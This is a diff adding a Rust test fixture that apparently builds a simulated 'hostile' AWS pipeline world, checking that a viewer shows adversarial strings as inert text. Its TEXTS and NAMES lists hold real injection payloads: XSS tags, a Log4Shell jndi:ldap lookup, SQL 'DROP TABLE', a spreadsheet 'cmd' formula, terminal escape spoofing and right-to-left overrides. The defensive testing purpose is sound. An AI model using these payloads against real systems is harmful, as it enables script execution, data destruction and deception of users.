@@ -1,0 +1,151 @@
+//! World `hostile`: everything is well formed as AWS's models have it, and every text means harm: markup, escape codes,
+//! right-to-left overrides, `javascript:` links, formulas, names of built-in things, texts of great length.
+//! What shows it must show it as text, lose nothing and run nothing.
+
+use std::sync::Arc;
+
+use super::{
+    World,
+    build::NewPipeline,
+    engine::{Event, Pushed},
+    line::{Author, Flaw},
+    pipeline::{Habits, Mode},
+    project::Trade,
+    provider::Provider,
+    structure::{ActionDef, StageDef, Structure, VariableDef},
+    time::{DAY, HOUR, MINUTE, SECOND},
+};
+use crate::clock::SimClock;
+
+/// Names within AWS's pattern `[A-Za-z0-9.@\-_]+`, at most 100 characters.
+pub const NAMES: [&str; 12] = [
+    "..",
+    "-rf",
+    "--help",
+    "@everyone",
+    "__proto__",
+    "constructor",
+    "CON",
+    "NaN",
+    "1e309",
+    "0x7f.1",
+    "prod-live-prd",
+    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+];
+
+/// Texts for commit messages, summaries and errors.
+pub const TEXTS: [&str; 12] = [
+    "<img src=x onerror=\"alert(1)\">",
+    "<script>window.__TAURI__.core.invoke('x')</script>",
+    "</textarea><svg onload=alert(1)>",
+    "\u{1b}[2J\u{1b}[1;31mFAKE: all green\u{1b}[0m",
+    "\u{1b}]8;;javascript:alert(1)\u{7}click\u{1b}]8;;\u{7}",
+    "Revert \u{202e}drow eht esrever\u{202c} and \u{2066}isolate\u{2069}",
+    "[open](javascript:alert(document.domain)) <javascript:alert(1)>",
+    "=cmd|' /C calc'!A0",
+    "'; DROP TABLE resources; --",
+    "${jndi:ldap://example.com/a} {{7*7}} %s%n%x",
+    "Z\u{0351}\u{0363}a\u{0332}\u{0344}l\u{0317}\u{034a}g\u{0329}\u{035b}o 👩‍👩‍👧‍👦 \u{200b}\u{feff}\u{200d}",
+    "first line\r\nsecond line\u{0}with a null\u{2028}third",
+];
+
+const ACCOUNT: &str = "111122223333";
+const REGION: &str = "ap-northeast-2";
+
+impl World {
+    /// The hostile world at the clock's present.
+    pub fn hostile(clock: SimClock, seed: u64) -> World {
+        let mut world = World::empty(clock, seed);
+        let opening = world.clock.now().timestamp_millis();
+        world.accounts.add(seed, ACCOUNT, "shop-dev", REGION);
+        let place = world.place_or_new(ACCOUNT, REGION);
+        world.extra_log = log_lines();
+        world.extra_error = Some(format!(" {} {}", TEXTS[0], TEXTS[3]));
+        for (n, name) in NAMES.into_iter().enumerate() {
+            let line = world.add_line(&format!("example-hostile/repository-{n}"), "main", 0);
+            let project = format!("hostile-{n:02}-build");
+            world.add_project(place, &project, Trade::Node, line, 90 * SECOND, opening - 90 * DAY);
+            world.add_repository(place, line, TEXTS[(n + 1) % TEXTS.len()], opening - 90 * DAY);
+            let p = world.add_pipeline(
+                place,
+                NewPipeline {
+                    name,
+                    v2: true,
+                    mode: Mode::Superseded,
+                    structure: Arc::new(structure(n, &project)),
+                    since: opening - 30 * DAY,
+                    habits: Habits { line, starts_on_push: true, steady: true, ..Habits::default() },
+                    tags: vec![("team", TEXTS[n % TEXTS.len()])],
+                },
+            );
+            for (k, hours) in [(0, 30), (1, 3)] {
+                let text = TEXTS[(n + k) % TEXTS.len()];
+                let message = if n == 7 { text.repeat(600) } else { text.to_owned() };
+                let author =
+                    Author { name: text.chars().take(60).collect(), email: "hostile.demo@example.com".to_owned() };
+                let flaw = (k == 1 && n % 2 == 0).then_some(Flaw { spoils: "Build", only_in: None });
+                let pushed = Pushed { line, message, author, flaw };
+                world.queue.plan(opening - hours * HOUR, Event::Push(Box::new(pushed)));
+            }
+            if n % 5 == 1 {
+                world.queue.plan(opening - 4 * HOUR, Event::Hang { pipeline: p, category: "Deploy" });
+            }
+        }
+        world.settle(opening);
+        world
+    }
+}
+
+fn structure(n: usize, project: &str) -> Structure {
+    let action = ActionDef::new;
+    let source = if n.is_multiple_of(2) { Provider::Connection } else { Provider::CodeCommit };
+    let mut stages = vec![
+        StageDef::new("Source").then(action("__proto__", source, &format!("repository-{n}"), 3 * SECOND)),
+        StageDef::new("Build").then(action("Build", Provider::CodeBuild, project, 0)),
+        // A custom action type names its own links, so this is what reaches the caller.
+        StageDef::new("toString")
+            .then(action("-rf", Provider::Jenkins, "javascript:alert(document.domain)//", 40 * SECOND).as_test()),
+    ];
+    if n.is_multiple_of(3) {
+        stages.push(StageDef::new("Approve").then(action("..", Provider::Approval, "{}", 0)));
+    }
+    stages.push(StageDef::new("Deploy").then(action("Deploy", Provider::CodeDeployToEcs, "{}", 2 * MINUTE)));
+    let variables = vec![VariableDef {
+        name: "constructor".to_owned(),
+        default: Some(format!("CANARY-hostile-{n}")),
+        description: TEXTS[n % TEXTS.len()].chars().filter(|c| !c.is_control()).collect(),
+    }];
+    Structure { stages, variables, push_branches: vec!["main".to_owned()] }
+}
+
+fn log_lines() -> Vec<String> {
+    let mut lines: Vec<String> = TEXTS.iter().map(|t| (*t).to_owned()).collect();
+    lines.push("progress 10%\rprogress 90%\r\u{1b}[1A\u{1b}[K\u{7}done".to_owned());
+    lines.push("x".repeat(200_000));
+    lines.push("가".repeat(30_000));
+    lines
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn names_keep_to_the_pattern() {
+        for name in NAMES {
+            assert!((1..=100).contains(&name.len()), "{name}");
+            assert!(name.bytes().all(|b| b.is_ascii_alphanumeric() || b".@-_".contains(&b)), "{name}");
+        }
+    }
+
+    #[test]
+    fn every_text_reaches_a_commit_and_a_log() {
+        let start = "2026-11-23T05:00:00Z".parse().expect("an instant");
+        let world = World::hostile(SimClock::standing(start), 1);
+        for text in TEXTS {
+            assert!(world.lines.iter().flat_map(|l| &l.commits).any(|c| c.message.starts_with(text)), "{text:?}");
+            assert!(world.extra_log.iter().any(|l| l == text), "{text:?}");
+        }
+        assert!(world.places[0].pipelines.iter().all(|p| p.executions.len() == 2));
+    }
+}
